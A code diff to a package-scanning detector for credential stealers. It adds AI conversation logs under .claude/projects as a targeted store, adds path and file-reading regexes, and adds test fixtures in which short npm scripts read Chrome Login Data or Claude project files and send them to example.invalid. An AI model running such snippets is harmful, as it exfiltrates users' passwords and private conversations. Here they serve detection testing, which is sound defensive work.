@@ -1,5 +1,6 @@
 import type { Detector } from "../detector.ts";
 import type { SourceFile } from "../model.ts";
+import { sendingDeeds } from "./_near.ts";
 import { codeWith, sight } from "./_sight.ts";
 
 /** Where programs keep what stealers take, by kind; each is a literal of code that reads it. */
@@ -22,6 +23,12 @@ const STORES: Readonly<Record<string, readonly string[]>> = {
     "atomic\\\\local storage",
     "wallet.dat",
     "metamask",
+  ],
+  "conversations with models": [
+    ".claude/projects",
+    "'.claude', 'projects'",
+    "'.claude','projects'",
+    '".claude", "projects"',
   ],
   "payment cards": ["card_number_encrypted", "credit_cards", "\\web data"],
 };
@@ -61,7 +68,29 @@ Tools that import cookies from the user's browser touch one or two of these plac
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": '{"name":"demo","main":"index.js"}',
+          "index.js":
+            "const f = fs.readFileSync(os.homedir() + '/Library/Application Support/Google/Chrome/Default/Login Data');\nfetch('https://example.invalid/u', { method: 'POST', body: f });\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "package.json": '{"name":"demo","main":"index.js"}',
+          "index.js":
+            "const d = path.join(os.homedir(), '.claude', 'projects');\nfor (const f of fs.readdirSync(d)) fetch('https://example.invalid', { method: 'PUT', body: fs.readFileSync(f) });\n",
+        },
+      },
+    ],
     passes: [
+      {
+        ecosystem: "npm",
+        files: { "index.js": "fetch('/x', { method: 'POST', body: fs.readFileSync('Login data') });\n" },
+      },
       { ecosystem: "pypi", files: { "demo/a.py": "title = 'Login data of the user'\n" } },
       { ecosystem: "npm", files: { "a.js": "const provider = window.metamask;\n" } },
     ],
@@ -70,8 +99,31 @@ Tools that import cookies from the user's browser touch one or two of these plac
 
 function shareOf(kinds: readonly string[], file: SourceFile): number {
   const stealing = kinds.filter((kind) => ONLY_STEALERS.includes(kind)).length;
+  if (isScript(file) && isLoaded(file) && openedAndSent(file, kinds))
+    return kinds.length > 1 || stealing > 0 ? 1 : 0.75;
   if (file.kind !== "python" && file.kind !== "powershell" && kinds.length < 3) return 0;
   if (stealing > 0 && kinds.length >= 3) return 1;
   if (stealing > 0 && kinds.length === 2) return 0.6;
   return kinds.length >= 3 ? 0.5 : kinds.length === 2 ? 0.3 : 0;
 }
+
+function isScript({ kind }: SourceFile): boolean {
+  return kind === "javascript" || kind === "typescript";
+}
+
+/** It runs when the package is installed or loaded: nobody asked it to read anything. */
+function isLoaded({ phase }: SourceFile): boolean {
+  return phase === "install" || phase === "start" || phase === "import";
+}
+
+/** A short script opens files, names one of the stores in a path, and sends something. */
+function openedAndSent(file: SourceFile, kinds: readonly string[]): boolean {
+  if (kinds.length === 0 || file.text.length > SHORT || !OPENS.test(file.text) || !PATHS.test(file.text)) return false;
+  return sendingDeeds(file).length > 0;
+}
+
+const SHORT = 30_000;
+const OPENS = /\b(?:readFile(?:Sync)?|readdir(?:Sync)?|createReadStream|copyFile(?:Sync)?)\b/;
+/** The stores as paths are written, so that a text on screen does not count. */
+const PATHS =
+  /[\\/]Login Data|Local Storage|leveldb|User Data|logins\.json|key4\.db|wallet\.dat|exodus\.wallet|\.claude(?:\/projects|['"],\s?['"]projects)/;
